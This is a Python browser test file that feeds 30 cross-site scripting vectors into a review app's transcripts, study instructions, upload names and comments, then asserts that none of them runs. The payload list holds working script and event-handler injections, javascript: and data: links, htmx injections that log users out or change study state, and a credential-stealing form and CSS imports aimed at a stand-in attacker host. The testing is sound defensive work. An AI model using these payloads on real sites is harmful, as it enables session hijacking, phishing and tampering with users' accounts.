"""Untrusted transcript content in real Chromium: 30 XSS vectors, each shown inert.

Every vector is ingested through the API into one item: in the title, the system prompt,
the user's and the agent's messages (markdown), a tool call's name and arguments, the tool's
output, the AI rationale and the metadata. The study's instructions (markdown), its title,
an upload's file name, an invitation label and a reviewer's comment carry vectors too.

A reviewer in the rationale arm (so the rationale renders) labels every item; a researcher
opens the study's pages. Throughout, the test fails on: a dialog, a request to another
host, a navigation or a new frame, ``window.__xss`` being set (every script vector sets
it), a console error or a CSP violation (logged by conftest), a tag or attribute outside
what the templates and the sanitizer produce, and a page wider than the window.
"""

from __future__ import annotations

import base64
import json
from urllib.parse import urlsplit

import pytest
from django.test import Client
from playwright.sync_api import expect

from reviewapp.ingest.models import IngestJob, Item
from reviewapp.queue.models import Label
from reviewapp.rendering import reveal_hidden_characters
from reviewapp.studies.models import IngestToken, Invitation, Study
from tests.browser.conftest import log_in, screenshot
from tests.builders import enrol

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = "http://attacker.invalid"
DATA_HTML = "data:text/html;base64," + base64.b64encode(b"<script>parent.__xss='data'</script>").decode()
VECTORS = {
    "script": "<script>window.__xss='script'</script>",
    "img onerror": "<img src=x onerror=\"window.__xss='img'\">",
    "svg onload": "<svg onload=\"window.__xss='svg'\"></svg>",
    "svg script": "<svg><script>window.__xss='svg-script'</script></svg>",
    "markdown javascript: link": "[click me](javascript:window.__xss='md-js')",
    "markdown data: link": f"[open the report]({DATA_HTML})",
    "markdown entity-encoded javascript: link": "[x](&#106;avascript:window.__xss='md-entity')",
    "markdown autolink javascript:": "<javascript:window.__xss='autolink'>",
    "markdown image javascript:": "![x](javascript:window.__xss='md-img')",
    "markdown image from the attacker": f"![pixel]({EVIL}/pixel.png)",
    "html javascript: link": "<a href=\"javascript:window.__xss='a-js'\">raw link</a>",
    "html data: link": f'<a href="{DATA_HTML}">data link</a>',
    "iframe srcdoc": "<iframe srcdoc=\"<script>parent.__xss='srcdoc'</script>\"></iframe>",
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='math'\">",
    "noscript mutation": "<noscript><p title=\"</noscript><img src=x onerror=window.__xss='noscript'>\">",
    "hx-get injection": '<div hx-get="/accounts/logout/" hx-trigger="load" hx-target="body">htmx</div>',
    "hx-post injection": (
        '<button hx-post="/studies/refunds/status/" hx-vals=\'{"to": "closed"}\' hx-trigger="load">x</button>'
    ),
    "hx-on injection": "<div hx-on:htmx:load=\"window.__xss='hx-on'\" hx-on::load=\"window.__xss='hx-on'\">on</div>",
    "template text": "{{ request.user.password }} {% debug %} ${window.__xss='tpl'} {{constructor.constructor('x')()}}",
    "style @import": f"<style>@import url({EVIL}/x.css); body{{display:none}}</style>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "form action": f'<form action="{EVIL}/steal" method="post"><input name="p"><button>Verify</button></form>',
    "base href": f'<base href="{EVIL}/">',
    "css expression": (
        f"<div style=\"width: expression(window.__xss='css'); background: url({EVIL}/bg.png)\">css</div>"
    ),
    "RTL override in link text": "[\u202egnp.exe](https://example.org/report) and \u202eevil\u202c text",
    "zero-width characters in link text": f"[pay\u200bpal.com\u2060]({EVIL}/login) and \ufeffbom",
    "over-long line": "A" * 20_000,
    "object": f'<object data="{EVIL}/x.swf" type="application/x-shockwave-flash"></object>',
    "embed": "<embed src=\"javascript:window.__xss='embed'\">",
    "details ontoggle and autofocus": (
        "<details open ontoggle=\"window.__xss='toggle'\"><input autofocus onfocus=\"window.__xss='focus'\">"
    ),
}
TITLE_LIMIT = 500  # MAX_TITLE in ingest/parsing.py
# What the templates and the sanitizer produce inside the untrusted regions of the page.
ALLOWED_TAGS = {
    *"p br hr strong em code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 a table thead tbody tr th td".split(),
    *"article section div details summary span aside".split(),
}
ALLOWED_ATTRIBUTES = {
    *"class href title rel align aria-label id open".split(),
    # The template's own markers for review.js: what is tracked, and whose uptake is watched.
    *"data-track data-uptake data-uptake-opened".split(),
}
UNTRUSTED_REGIONS = "#transcript, #ai-panel, .review-head .prose, #locked-out"
DANGEROUS = "iframe, frame, object, embed, base, meta[http-equiv], style, math, form[action]:not([action^='/'])"
# Scripts from elsewhere or inline, dangerous elements anywhere, anything in the untrusted
# regions beyond the allowlists, links other than http(s)/mailto, and a page wider than its window.
FIND_PROBLEMS = """([regions, tags, attributes, allowSvg, dangerous]) => {
    const problems = [];
    for (const el of document.querySelectorAll('script')) {
        if (!el.src || new URL(el.src).origin !== location.origin) {
            problems.push('script ' + el.outerHTML.slice(0, 80));
        }
    }
    for (const el of document.querySelectorAll(dangerous + (allowSvg ? '' : ', svg'))) {
        problems.push('element ' + el.outerHTML.slice(0, 80));
    }
    for (const region of document.querySelectorAll(regions)) {
        for (const el of region.querySelectorAll('*')) {
            const tag = el.tagName.toLowerCase();
            if (!tags.includes(tag)) problems.push('tag ' + tag);
            for (const attr of el.attributes) {
                if (!attributes.includes(attr.name)) problems.push(tag + ' @' + attr.name);
            }
            if (tag === 'a' && !/^(https?:|mailto:)/.test(el.getAttribute('href') || '')) {
                problems.push('link ' + el.getAttribute('href'));
            }
        }
    }
    const root = document.documentElement;
    if (root.scrollWidth > root.clientWidth + 1) problems.push('page wider than the window: ' + root.scrollWidth);
    return problems;
}"""


def record(n: int, name: str, vector: str) -> dict:
    return {
        "external_id": f"xss-{n:02d} {vector[:180]}",
        "title": vector[:TITLE_LIMIT],
        "priority": 100 - n,
        "messages": [
            {"role": "system", "content": vector},
            {"role": "user", "content": f"Vector {n} ({name}): {vector}"},
            {
                "role": "assistant",
                "content": vector,
                "tool_calls": [{"id": f"c{n}", "name": vector[:200], "arguments": {"url": vector, "html": vector}}],
            },
            {"role": "tool", "tool_call_id": f"c{n}", "name": vector[:200], "content": vector},
        ],
        "ai_recommendation": "approve",
        "ai_rationale": f"Rationale for {name}: {vector}",
        "ai_confidence": 0.5,
        "metadata": {"note": vector, "nested": {"html": vector}},
    }


class Watch:
    """Everything the page does that hostile content could cause."""

    def __init__(self, page, base: str) -> None:
        self.page = page
        self.local = urlsplit(base).hostname
        self.dialogs: list[str] = []
        self.foreign: list[str] = []
        self.frames: list[str] = []
        self.popups: list[str] = []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", self.on_request)
        page.on("frameattached", lambda frame: self.frames.append(frame.url))
        page.on("popup", lambda popup: self.popups.append(popup.url))
        # Nothing leaves the machine even if a request were made: it is recorded and aborted.
        page.context.route("**/*", self.route)

    def on_request(self, request) -> None:
        if urlsplit(request.url).hostname not in (self.local, None):
            self.foreign.append(request.url)

    def route(self, route) -> None:
        if urlsplit(route.request.url).hostname == self.local:
            route.continue_()
        else:
            route.abort()

    def assert_inert(self, where: str, *, url: str | None = None, allow_svg: bool = False) -> None:
        page = self.page
        assert page.evaluate("window.__xss") is None, f"{where}: a script ran ({page.evaluate('window.__xss')})"
        assert self.dialogs == [], f"{where}: dialogs {self.dialogs}"
        assert self.foreign == [], f"{where}: requests to other hosts {self.foreign}"
        assert self.frames == [] and len(page.frames) == 1, f"{where}: frames {self.frames}"
        assert self.popups == [], f"{where}: popups {self.popups}"
        if url is not None:
            assert page.url == url, f"{where}: navigated to {page.url}"
        assert page.console_errors == [], f"{where}: console errors / CSP violations {page.console_errors}"
        problems = page.evaluate(
            FIND_PROBLEMS,
            [UNTRUSTED_REGIONS, sorted(ALLOWED_TAGS), sorted(ALLOWED_ATTRIBUTES), allow_svg, DANGEROUS],
        )
        assert problems == [], f"{where}: {problems}"


@pytest.fixture
def hostile_study(study):
    Study.objects.filter(pk=study.pk).update(
        title="Refunds <img src=x onerror=\"window.__xss='study-title'\">",
        instructions="\n\n".join(
            [
                "Read **carefully**. <script>window.__xss='instructions'</script>",
                "[javascript](javascript:window.__xss='instr-js') [data]("
                + DATA_HTML
                + ") ![img](javascript:x) ![pixel]("
                + EVIL
                + "/i.png)",
                '<img src=x onerror="window.__xss=\'instr-img\'"> <a href="javascript:alert(1)">raw</a>',
                "[policy](https://example.org/policy)",
            ]
        ),
    )
    study.refresh_from_db()
    _token, secret = IngestToken.issue(study=study, name="pipeline")
    body = "\n".join(json.dumps(record(n, name, vector)) for n, (name, vector) in enumerate(VECTORS.items()))
    response = Client().post(
        "/api/studies/refunds/items", body, content_type="application/x-ndjson", HTTP_AUTHORIZATION=f"Bearer {secret}"
    )
    assert response.status_code == 201, response.content
    assert response.json()["created"] == len(VECTORS)
    # Researcher-facing text from other sources: an upload's name (the API's ?filename=), a label.
    IngestJob.objects.create(
        study=study, filename=VECTORS["img onerror"] + ".jsonl", stored_path="/nowhere", status="failed"
    )
    Invitation.objects.create(study=study, label=VECTORS["svg onload"])
    return study


class TestHostileContentIsInert:
    def test_a_rationale_arm_reviewer_labels_every_hostile_item_and_nothing_runs(
        self, live_server, page_factory, hostile_study
    ):
        assert len(VECTORS) >= 20
        reviewer = enrol(hostile_study, "rashid", "rationale")
        page = page_factory()
        watch = Watch(page, live_server.url)
        log_in(page, live_server.url, "rashid")
        watch.assert_inert("reviewer home (instructions)", url=f"{live_server.url}/")
        assert page.locator(".prose a[href='https://example.org/policy']").count() == 1  # safe links stay links
        page.click("text=Start reviewing")
        page.wait_for_selector("#answer-form")
        page.wait_for_load_state("domcontentloaded")  # the keyboard shortcuts are bound by a deferred script
        review_url = page.url
        watch.assert_inert("review page")

        for n, (name, vector) in enumerate(VECTORS.items()):
            where = f"vector {n} ({name})"
            shown = reveal_hidden_characters(vector)
            expect(page.locator("#transcript h2")).to_have_text(shown[:TITLE_LIMIT])
            page.keyboard.press("[")  # expand every tool call and result
            # The arm shows the rationale expanded (the default): its sanitized markup is on the page.
            assert "Rationale for" in page.text_content("section.ai-rationale.is-expanded"), where
            # Escaped text, not markup: the tool output shows the vector character for character.
            assert page.locator("#transcript .turn-tool pre.out").first.text_content() == shown[:1200], where
            watch.assert_inert(where, url=review_url)
            if name in ("script", "RTL override in link text", "over-long line", "hx-post injection"):
                page.locator("#transcript details.turn-system > summary").click()
                page.click("summary:has-text('Instructions')")
                screenshot(page, f"xss-reviewer-{n:02d}-{name.replace(' ', '-').replace(':', '')}")
                page.click("summary:has-text('Instructions')")
            if name == "RTL override in link text":
                link = page.locator("#transcript .turn-user a[href='https://example.org/report']")
                assert link.text_content() == "\u27e6U+202E\u27e7gnp.exe", where  # the override is shown
            if name == "zero-width characters in link text":
                link = page.locator(f"#transcript .turn-user a[href='{EVIL}/login']")
                assert link.text_content() == "pay\u27e6U+200B\u27e7pal.com\u27e6U+2060\u27e7", where
            before = int(page.text_content("#done-count"))
            page.keyboard.press("1")
            page.click("#submit-answer")
            expect(page.locator("#done-count")).to_have_text(str(before + 1))

        expect(page.locator("#all-done")).to_be_visible()
        watch.assert_inert("after the last item", url=review_url)
        assert Label.objects.filter(reviewer=reviewer).count() == len(VECTORS)
        assert Study.objects.get(pk=hostile_study.pk).status == "running"  # hx-post did not close it
        assert page.locator("text=Log out rashid").count() == 1  # the injected hx-get did not log out

    def test_a_hostile_comment_comes_back_as_text_in_its_field(self, live_server, page_factory, hostile_study):
        enrol(hostile_study, "carla", "control")
        page = page_factory()
        watch = Watch(page, live_server.url)
        log_in(page, live_server.url, "carla")
        page.click("text=Start reviewing")
        page.wait_for_selector("#answer-form")
        page.wait_for_load_state("domcontentloaded")
        comment = "</textarea><img src=x onerror=\"window.__xss='comment'\"><script>window.__xss='c2'</script>"
        page.fill("#comment", comment)
        with page.expect_response(lambda r: "/answer/" in r.url) as answer:
            page.click("#submit-answer")  # no decision chosen: the form comes back with the comment kept
        assert answer.value.status == 400
        expect(page.locator("#comment")).to_have_value(comment)
        # The browser reports the 400 itself; that message is the only console line allowed here.
        assert all("status of 400" in line for line in page.console_errors)
        page.console_errors.clear()
        watch.assert_inert("the form returned with a hostile comment")
        screenshot(page, "xss-comment-returned")
        page.keyboard.press("1")
        page.click("#submit-answer")
        expect(page.locator("#done-count")).to_have_text("1")
        assert Label.objects.get(reviewer__username="carla").comment == comment
        watch.assert_inert("after saving the hostile comment")

    def test_the_researcher_pages_show_hostile_items_inert(self, live_server, page_factory, hostile_study, researcher):
        page = page_factory()
        watch = Watch(page, live_server.url)
        log_in(page, live_server.url, "rosa")
        watch.assert_inert("researcher home")
        pages = {
            "items": "items/",
            "overview": "",
            "reviewers": "reviewers/",
            "audit": "audit/",
            "settings": "settings/",
        }
        for name, path in pages.items():
            url = f"{live_server.url}/studies/refunds/{path}"
            page.goto(url)
            watch.assert_inert(f"study {name} page", url=url)
            screenshot(page, f"xss-researcher-{name}")
        page.goto(f"{live_server.url}/studies/refunds/items/")
        rows = page.locator("table tbody tr")
        expect(rows).to_have_count(len(VECTORS))
        first_title = Item.objects.get(external_id__startswith="xss-00 ").payload["title"]
        assert page.locator("tbody tr").first.locator("td").nth(1).text_content().startswith(first_title[:50])
        # A reflected path on the 404 page.
        missing = f"{live_server.url}/studies/%3Cimg%20src=x%20onerror=window.__xss=1%3E/"
        assert page.goto(missing).status == 404
        # The browser reports the 404 itself; that is the only console line allowed here.
        assert page.console_errors == ["Failed to load resource: the server responded with a status of 404 (Not Found)"]
        page.console_errors.clear()
        watch.assert_inert("404 page with a hostile path", url=missing)
        screenshot(page, "xss-404-reflected-path")

    def test_the_dashboard_and_exports_pages_show_hostile_items_inert(
        self, live_server, page_factory, hostile_study, researcher
    ):
        reviewer = enrol(hostile_study, "rashid", "rationale")
        page = page_factory()
        watch = Watch(page, live_server.url)
        log_in(page, live_server.url, "rosa")
        for name, path in {
            "dashboard": "dashboard/",
            "reviewer": f"dashboard/reviewers/{reviewer.pk}/",
            "exports": "exports/",
        }.items():
            url = f"{live_server.url}/studies/refunds/{path}"
            page.goto(url)
            watch.assert_inert(f"{name} page", url=url, allow_svg=True)
            screenshot(page, f"xss-researcher-{name}")
